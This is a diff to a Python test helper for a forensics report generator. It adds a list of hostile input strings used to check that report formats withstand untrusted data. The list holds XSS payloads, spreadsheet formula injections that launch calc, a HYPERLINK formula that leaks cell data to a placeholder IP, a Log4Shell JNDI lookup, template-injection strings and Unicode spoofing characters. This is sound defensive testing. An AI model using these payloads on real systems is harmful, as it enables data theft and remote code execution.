@@ -6,7 +6,7 @@ Names and domains are invented; nothing here is drawn at random.
 from __future__ import annotations
 
 from collections.abc import Sequence
-from dataclasses import replace
+from dataclasses import fields, is_dataclass, replace
 from datetime import UTC, date, datetime, timedelta
 from typing import Any
 
@@ -16,7 +16,9 @@ import pyarrow as pa
 from forensics import schema
 from forensics.case import CaseFile
 from forensics.report.facts import Bin, Evidence, Facts, Method, Rate
+from forensics.report.formats import Context
 from forensics.report.gather import Inputs, gather
+from forensics.report.wording import load
 
 START = datetime(2023, 3, 20, 8, 15, tzinfo=UTC)
 EVIDENCE = "a" * 64
@@ -279,3 +281,54 @@ CONFIRM = {
 def renamed(made: Facts, **header: Any) -> Facts:
     """The same facts with other values in the header."""
     return replace(made, header=replace(made.header, **header))
+
+
+HOSTILE = (
+    "<script>alert(document.domain)</script>",
+    "</w:t></w:r><img src=x onerror=alert(1)>",
+    "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "a;=1+1;b",
+    'quoted", "=1+1',
+    "'=already guarded",
+    "＝1+1",
+    "#{panic()} #sys $x^2$ `raw` \\ *bold* _it_ = Head",
+    "{{ 7*7 }} {% for x in y %} {_{ 7*7 }_} {# c #}",
+    "${jndi:ldap://203.0.113.9/a}",
+    "`code` ``two`` | pipe \\| both",
+    "[link](javascript:alert(1)) ![i](http://203.0.113.9/x.png) www.example.com :tada:",
+    "null\x00byte and \x0b vertical \x1b[31mred",
+    "illegal \ufffe\uffff xml ]]> &amp; &#0; <!--",
+    "\u202egpj.exe\u202c \u2066isolate\u2069 zero\u200bwidth \ufeff bom",
+    "line\nbreak\r\nand\u2028separator\u0085nel",
+    "_x0041_ _x005F_ excel",
+    "\\u{41} literal escape",
+    "no\u00a0break \u3164 filler",
+    "中文 שלום العربية 🚢",
+    "e\u0301 combining Z\u0351\u036b\u0343 zalgo",
+    "  two  spaces  ",
+    "64 KiB " + "A" * 65_536,
+)
+"""What strangers may write into a subject, an address or a server's reply."""
+
+SURROGATE = "half \ud800 pair \udfff"
+"""Arrow cannot hold it; a format must survive it all the same."""
+
+
+def swapped(value: Any, change: dict[str, str]) -> Any:
+    """A copy of facts in which every string equal to a key of `change` is another."""
+    if isinstance(value, str):
+        return change.get(value, value)
+    if isinstance(value, tuple):
+        return tuple(swapped(part, change) for part in value)
+    if is_dataclass(value) and not isinstance(value, type):
+        return replace(value, **{field.name: swapped(getattr(value, field.name), change) for field in fields(value)})
+    return value
+
+
+def context(pictures: dict[str, Any] | None = None) -> Context:
+    return Context(load(), pictures or {})
